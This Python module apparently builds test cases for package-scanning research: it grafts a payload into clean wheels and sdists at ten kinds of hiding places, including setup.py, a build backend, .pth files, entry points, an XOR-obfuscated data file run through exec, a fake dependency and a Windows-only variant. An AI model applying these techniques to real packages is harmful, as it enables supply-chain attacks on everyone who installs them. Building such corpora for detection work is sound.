"""Ten kinds of places in a clean wheel at which a graft is made; each gives the clean and the grafted artifact."""

from __future__ import annotations

import ast
from collections.abc import Callable
from dataclasses import dataclass

from injected.payloads import function, indented

Files = dict[str, bytes]


@dataclass(frozen=True, slots=True, kw_only=True)
class Graft:
    """A clean artifact and the same with a payload."""

    kind: str
    """Of the artifact: wheel or sdist."""
    clean: Files
    poisoned: Files
    at: str
    """The file that was changed or added; for a dependency its name."""
    dependency: Files | None = None
    """The new dependency's own files, a wheel."""
    siblings: tuple[Files, ...] = ()
    """Other wheels of the same release, clean."""


def setup_script(wheel: Files, payload: str) -> Graft | None:
    """Top of setup.py in an sdist made of the wheel."""
    clean = _sdist(wheel, {"setup.py": _SETUP.encode()})
    return _changed(clean, "p-1.0/setup.py", payload.encode() + b"\n" + clean["p-1.0/setup.py"], kind="sdist")


def build_backend(wheel: Files, payload: str) -> Graft | None:
    """`build_wheel` of a back end that lies in the sdist."""
    backend = "from setuptools.build_meta import *\nfrom setuptools import build_meta as _meta\n\n\n{}"
    hook = "def build_wheel(directory, settings=None, metadata=None):\n{}    return _meta.build_wheel(directory)\n"
    project = b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
    clean = _sdist(wheel, {"pyproject.toml": project, "_build/backend.py": backend.format(hook.format("")).encode()})
    bad = backend.format(hook.format(indented(payload, 4))).encode()
    return _changed(clean, "p-1.0/_build/backend.py", bad, kind="sdist")


def init(wheel: Files, payload: str) -> Graft | None:
    """End of the package's `__init__`."""
    path = _init(wheel)
    return _changed(wheel, path, _below(wheel[path], payload)) if path else None


def deep_module(wheel: Files, payload: str) -> Graft | None:
    """End of a module that the package imports, as far from its `__init__` as there is one."""
    path = _far(wheel)
    return (
        _changed(wheel, path, _below(wheel[path], function("_prepare", payload) + "\n\n_prepare()\n")) if path else None
    )


def method(wheel: Files, payload: str) -> Graft | None:
    """Start of a method of a class that was there, which only a call reaches."""
    for path in sorted(wheel, key=lambda one: (one.count("/"), one)):
        found = _method(wheel[path]) if path.endswith(".py") and "test" not in path else None
        if found:
            line, column = found
            lines = wheel[path].decode().splitlines(keepends=True)
            lines.insert(line - 1, indented(payload, column))
            return _changed(wheel, path, "".join(lines).encode())
    return None


def pth(wheel: Files, payload: str) -> Graft | None:
    """A .pth file and the module that it imports."""
    top = _top(wheel)
    if not top:
        return None
    hook = {f"{top}-nspkg.pth": f"import {top}._boot\n".encode(), f"{top}/_boot.py": payload.encode()}
    return Graft(kind="wheel", clean=wheel, poisoned=wheel | hook, at=f"{top}/_boot.py")


def entry_point(wheel: Files, payload: str) -> Graft | None:
    """A new command."""
    top, info = _top(wheel), _info(wheel)
    if not top or not info:
        return None
    path = f"{info}/entry_points.txt"
    table = wheel.get(path, b"").decode().replace("\r\n", "\n")
    head = "[console_scripts]\n"
    row = f"{top}-sync = {top}._sync:main\n"
    table = table.replace(head, head + row) if head in table else f"{table}\n{head}{row}"
    added = {path: table.encode(), f"{top}/_sync.py": function("main", payload).encode()}
    return Graft(kind="wheel", clean=wheel, poisoned=wheel | added, at=f"{top}/_sync.py")


def data_file(wheel: Files, payload: str) -> Graft | None:
    """A data file that is no code by itself, and a loader where the package is imported."""
    path, top = _init(wheel), _top(wheel)
    if not path or not top:
        return None
    loader = """
import os as _os


def _table():
    with open(_os.path.join(_os.path.dirname(__file__), "_tables.dat"), "rb") as held:
        exec(bytes(one ^ 0x5A for one in held.read()).decode())


_table()
"""
    data = {f"{top}/_tables.dat": bytes(one ^ 0x5A for one in payload.encode())}
    return Graft(kind="wheel", clean=wheel, poisoned=wheel | data | {path: _below(wheel[path], loader)}, at=path)


def dependency(wheel: Files, payload: str) -> Graft | None:
    """A requirement that nothing in the package imports; what it names is a stand-in."""
    info = _info(wheel)
    if not info:
        return None
    name = "plain-table-helper"
    path = f"{info}/METADATA"
    head, blank, rest = wheel[path].partition(b"\n\n")
    bad = head + f"\nRequires-Dist: {name}>=1.0".encode() + blank + rest
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode()
    package = {"plain_table_helper/__init__.py": payload.encode(), "plain_table_helper-1.0.dist-info/METADATA": meta}
    return Graft(kind="wheel", clean=wheel, poisoned=wheel | {path: bad}, at=name, dependency=package)


def one_platform(wheel: Files, payload: str) -> Graft | None:
    """One of several wheels of the release has more in a module than the others."""
    made = deep_module(wheel, f"import sys\nif sys.platform == 'win32':\n{indented(payload, 4)}")
    if made is None:
        return None
    return Graft(kind="wheel", clean=wheel, poisoned=made.poisoned, at=made.at, siblings=(wheel, wheel))


PLACES: dict[str, Callable[[Files, str], Graft | None]] = {
    one.__name__: one
    for one in (
        setup_script, build_backend, init, deep_module, method, pth, entry_point, data_file, dependency, one_platform,
    )
}  # fmt: skip

_SETUP = """\
from setuptools import find_packages, setup

setup(name="p", version="1.0", packages=find_packages())
"""


def _sdist(wheel: Files, more: Files) -> Files:
    """Return the wheel's modules as an sdist, with what builds it."""
    kept = {f"p-1.0/{path}": data for path, data in wheel.items() if ".dist-info/" not in path}
    meta = next((data for path, data in wheel.items() if path.endswith(".dist-info/METADATA")), b"")
    return kept | {f"p-1.0/{path}": data for path, data in more.items()} | {"p-1.0/PKG-INFO": meta}


def _changed(clean: Files, path: str, data: bytes, kind: str = "wheel") -> Graft:
    return Graft(kind=kind, clean=clean, poisoned=clean | {path: data}, at=path)


def _below(text: bytes, added: str) -> bytes:
    return text.rstrip() + b"\n\n\n" + added.encode()


def _top(wheel: Files) -> str:
    """Return the package that the wheel installs."""
    tops = sorted({path.partition("/")[0] for path in wheel if path.endswith("/__init__.py") and path.count("/") == 1})
    return next((top for top in tops if not top.startswith(("test", "docs", "example"))), "")


def _init(wheel: Files) -> str:
    top = _top(wheel)
    return f"{top}/__init__.py" if top else ""


def _info(wheel: Files) -> str:
    return next((path.rpartition("/")[0] for path in sorted(wheel) if path.endswith(".dist-info/METADATA")), "")


def _far(wheel: Files) -> str:
    """Return a module that is reached from `__init__` by imports, the farthest one; else any other module of it."""
    top = _top(wheel)
    if not top:
        return ""
    order, walk = [f"{top}/__init__.py"], [f"{top}/__init__.py"]
    for path in walk:
        for found in _imported(path, wheel):
            if found not in order:
                order.append(found)
                walk.append(found)
    rest = [path for path in sorted(wheel) if path.startswith(f"{top}/") and path.endswith(".py") and path not in order]
    return order[-1] if len(order) > 1 else rest[0] if rest else ""


def _imported(path: str, wheel: Files) -> list[str]:
    """Return the wheel's own modules that a module imports at its top level."""
    try:
        body = ast.parse(wheel[path]).body
    except (SyntaxError, ValueError):
        return []
    package = path.split("/")[:-1]
    names: list[list[str]] = []
    for node in body:
        if isinstance(node, ast.Import):
            names += [alias.name.split(".") for alias in node.names]
        elif isinstance(node, ast.ImportFrom):
            start = package[: len(package) - node.level + 1] if node.level else []
            module = [*start, *(node.module.split(".") if node.module else [])]
            names += [module, *([*module, alias.name] for alias in node.names)]
    spots = ["/".join(name) for name in names]
    return [spot for name in spots for spot in (f"{name}.py", f"{name}/__init__.py") if spot in wheel]


def _method(text: bytes) -> tuple[int, int] | None:
    """Return line and column of the first statement of a method that no other code runs by itself."""
    try:
        tree = ast.parse(text)
        text.decode()
    except (SyntaxError, ValueError):
        return None
    for owner in tree.body:
        if isinstance(owner, ast.ClassDef) and not owner.name.startswith("_") and not owner.bases:
            for item in owner.body:
                plain = isinstance(item, ast.FunctionDef) and not item.name.startswith("_") and not item.decorator_list
                if plain and isinstance(item, ast.FunctionDef) and len(item.body) > 1:
                    first = item.body[1] if isinstance(item.body[0], ast.Expr) else item.body[0]
                    if first.lineno > item.lineno:
                        return first.lineno, first.col_offset
    return None
